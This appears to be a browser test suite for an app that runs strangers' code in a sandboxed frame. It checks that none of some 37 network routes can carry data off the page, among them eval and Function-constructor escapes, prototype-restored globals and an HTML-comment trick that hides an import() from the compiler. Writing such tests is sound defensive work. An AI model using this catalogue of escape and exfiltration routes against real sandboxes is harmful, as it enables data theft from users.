// A fold comes from a stranger, by link. Whatever it tries, nothing may leave the page.
import { COUNT, expect, payment, test, type Console } from '../console.ts';
import { listen, type Listener } from '../listener.ts';

/** Long enough for a request to arrive from the next process of the same machine. */
const SILENCE_MS = 700;

let listener: Listener;
test.beforeEach(async () => {
  listener = await listen();
});
test.afterEach(() => listener.close());

/** Every way a browser has of reaching another machine, as expressions; HOST is replaced. */
const MEANS: Readonly<Record<string, string>> = {
  fetch: `fetch('http://HOST/fetch')`,
  'fetch of self': `self.fetch('http://HOST/self')`,
  'fetch of globalThis': `globalThis.fetch('http://HOST/globalThis')`,
  XMLHttpRequest: `{ const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send(); }`,
  'synchronous XMLHttpRequest': `{ const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr-sync', false); x.send(); }`,
  WebSocket: `new WebSocket('ws://HOST/socket')`,
  WebSocketStream: `new WebSocketStream('ws://HOST/stream')`,
  WebTransport: `new WebTransport('https://HOST/transport')`,
  EventSource: `new EventSource('http://HOST/events')`,
  sendBeacon: `navigator.sendBeacon('http://HOST/beacon', 'x')`,
  importScripts: `importScripts('http://HOST/import.js')`,
  'importScripts of self': `self.importScripts('http://HOST/import-self.js')`,
  Worker: `new Worker('http://HOST/worker.js')`,
  'Worker from a data address': `new Worker('data:text/javascript,fetch("http://HOST/nested")')`,
  'Worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("http://HOST/blob")'])))`,
  SharedWorker: `new SharedWorker('http://HOST/shared.js')`,
  'service worker': `navigator.serviceWorker.register('http://HOST/service.js')`,
  Image: `{ const i = new Image(); i.src = 'http://HOST/image.png'; }`,
  Audio: `new Audio('http://HOST/sound.ogg').play()`,
  'a link element': `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://HOST/style.css'; document.head.append(l); }`,
  FontFace: `{ const f = new FontFace('x', 'url(http://HOST/font.woff2)'); f.load(); }`,
  'FontFace of the worker': `self.fonts.add(new FontFace('x', 'url(http://HOST/font2.woff2)'))`,
  RTCPeerConnection: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); c.createOffer(); }`,
  caches: `caches.open('x')`,
  Request: `new Request('http://HOST/request')`,
  navigation: `location.href = 'http://HOST/location'`,
  'a new window': `open('http://HOST/open')`,
  'the parent': `parent.location = 'http://HOST/parent'`,
  'the top': `top.location.href = 'http://HOST/top'`,
  'the Function constructor': `Function('return fetch("http://HOST/function")')()`,
  'the constructor of a constructor': `[].constructor.constructor('return this.fetch("http://HOST/constructor")')()`,
  eval: `eval('fetch("http://HOST/eval")')`,
  'indirect eval': `(0, eval)('import("http://HOST/indirect.js")')`,
  'the constructor of generators': `(function* () {}).constructor('yield fetch("http://HOST/generator")')().next()`,
  'a timer with text': `setTimeout('fetch("http://HOST/timer")')`,
  'a deleted global restored from a prototype': `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, 'http://HOST/prototype')`,
  'this of a sloppy function': `(function () { return this.fetch('http://HOST/this'); })()`,
};

function attempts(host: string): string {
  const table = Object.entries(MEANS).map(([name, code]) => {
    const attempt = code.replaceAll('HOST', host);
    return `${JSON.stringify(name)}: () => ${attempt.startsWith('{') ? attempt : `(${attempt})`}`;
  });
  return `
    const means = {\n${table.join(',\n')}\n};
    const attemptAll = () => {
      const outcome = {};
      for (const name of Object.keys(means)) {
        try { means[name](); outcome[name] = 'done'; } catch (error) { outcome[name] = 'refused'; }
      }
      return outcome;
    };`;
}

async function silence(io: Console): Promise<void> {
  await io.page.waitForTimeout(SILENCE_MS);
  expect(listener.heard).toEqual([]);
}

test('the listener hears what an ordinary page sends: its silence below means something', async ({ io, tolerated }) => {
  const host = `127.0.0.1:${listener.port}`;
  tolerated.push(host);
  await io.page.evaluate((host) => {
    new WebSocket(`ws://${host}/socket`);
    void fetch(`http://${host}/fetch`, { mode: 'no-cors' }).catch(() => {});
  }, host);
  await expect.poll(() => [...listener.heard].sort()).toEqual(['GET /fetch HTTP/1.1', 'GET /socket HTTP/1.1']);
});

for (const [where, fold] of [
  [
    'its top level',
    'const outcome = attemptAll(); export default view({ init: () => outcome, apply: (state) => state });',
  ],
  ['init', 'export default view({ init: attemptAll, apply: (state) => state });'],
  ['apply', 'export default view({ init: () => ({}), apply: attemptAll });'],
] as const) {
  test(`[P1] no means of the network works from ${where}`, async ({ io }) => {
    await io.append(payment());
    const id = await io.addView('spy', attempts(`127.0.0.1:${listener.port}`) + fold);
    await io.settled();
    expect(await io.state(id)).toEqual(Object.fromEntries(Object.keys(MEANS).map((name) => [name, 'refused'])));
    await silence(io);
  });
}

test('[P1] no means of the network works from query', async ({ io }) => {
  await io.append(payment());
  const code = `${attempts(`127.0.0.1:${listener.port}`)}
    export default view({ init: () => 0, apply: (n) => n + 1, query: attemptAll });`;
  const id = await io.addView('spy', code);
  expect(await io.query(id)).toEqual(Object.fromEntries(Object.keys(MEANS).map((name) => [name, 'refused'])));
  await silence(io);
});

test('[P1] import() is refused before the fold runs', async ({ io }) => {
  const code = `export default view({ init: () => import('http://127.0.0.1:${listener.port}/x.js'), apply: (s) => s });`;
  await expect(io.addView('importer', code)).rejects.toThrow('cannot load code while it runs');
  await silence(io);
});

test('[P1] import() hidden from the compiler finds the door of the frame closed', async ({ io, tolerated }) => {
  // Chromium tells of the request it refused to send, and of the promise that came to nothing.
  tolerated.push('hidden.js');
  // To a module `<!--` is three operators; to a script it begins a comment. What one reads as a comment the other runs.
  const code = `let b = 1;
    const hidden = 1 <!--b /*
    ; import('http://127.0.0.1:${listener.port}/hidden.js'); /*
    */ ;
    export default view({ init: () => 0, apply: (n) => n + 1 });`;
  await io.addView('smuggler', code).catch(() => 'refused');
  await silence(io);
});

test('[P1] a function that waits, whose constructor would make code from text, is refused before the fold runs', async ({
  io,
}) => {
  const code = `(async () => {}).constructor('return import("http://127.0.0.1:${listener.port}/async.js")')();
    export default view({ init: () => 0, apply: (s) => s });`;
  await expect(io.addView('waiter', code)).rejects.toThrow('cannot wait');
  await silence(io);
});

test('[P1] a fold may not import what is not on the list, by name or by address', async ({ io }) => {
  for (const module of ['lodash', `http://127.0.0.1:${listener.port}/x.js`, './fold.js', 'data:text/javascript,1']) {
    const code = `import x from '${module}'; export default view({ init: () => x, apply: (s) => s });`;
    await expect(io.addView('importer', code)).rejects.toThrow(/cannot import .* minisearch/);
  }
  await silence(io);
});

test('[P1] the frame refuses to run when it is visited by itself', async ({ page }) => {
  await page.goto('./sandbox-frame.html');
  await expect(page.locator('html')).toContainText('Open the app instead');
});

test('[P1] the frame names in its policy every source it has, and no host', async ({ page }) => {
  const policy = await page.request.get('./sandbox-frame.html').then((response) => response.text());
  expect(policy).toMatch(/default-src 'none'; script-src 'sha256-[^']+' blob:; worker-src blob:"/);
  expect(policy).not.toMatch(/https?:/);
});

test('a neighbour folds on while a spy tries everything', async ({ io }) => {
  const neighbour = await io.addView('neighbour', COUNT);
  await io.addView(
    'spy',
    `${attempts(`127.0.0.1:${listener.port}`)} export default view({ init: () => ({}), apply: attemptAll });`,
  );
  for (let index = 0; index < 5; index++) await io.append(payment({ payment_id: `p${index}` }));
  await io.settled();
  expect(await io.state(neighbour)).toBe(5);
  await silence(io);
});
